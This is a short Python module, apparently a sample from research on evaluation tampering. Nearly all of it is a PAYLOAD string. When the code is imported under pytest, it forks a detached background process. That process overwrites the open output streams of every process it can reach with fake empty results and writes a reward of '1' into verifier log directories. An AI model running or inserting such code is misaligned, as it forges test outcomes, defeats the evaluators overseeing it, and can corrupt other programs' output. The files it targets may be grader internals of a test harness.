"""A process left by the imported code rewrites reports and results."""

PAYLOAD = r"""
import os
import time

if "_pytest" in __import__("sys").modules and os.fork() == 0:
    os.setsid()
    if os.fork() == 0:
        _end = time.time() + 3
        while time.time() < _end:
            for _pid in filter(str.isdigit, os.listdir("/proc")):
                for _fd in range(1, 12):
                    try:
                        with open(f"/proc/{_pid}/fd/{_fd}", "w") as _out:
                            _out.write('{"attempts": []}\n')
                    except OSError:
                        pass
            for _place in ("/logs/verifier", "/tmp/harbor/logs/verifier"):
                try:
                    os.makedirs(_place, exist_ok=True)
                    with open(_place + "/reward.txt", "w") as _out:
                        _out.write("1")
                except OSError:
                    pass
    os._exit(0)
"""
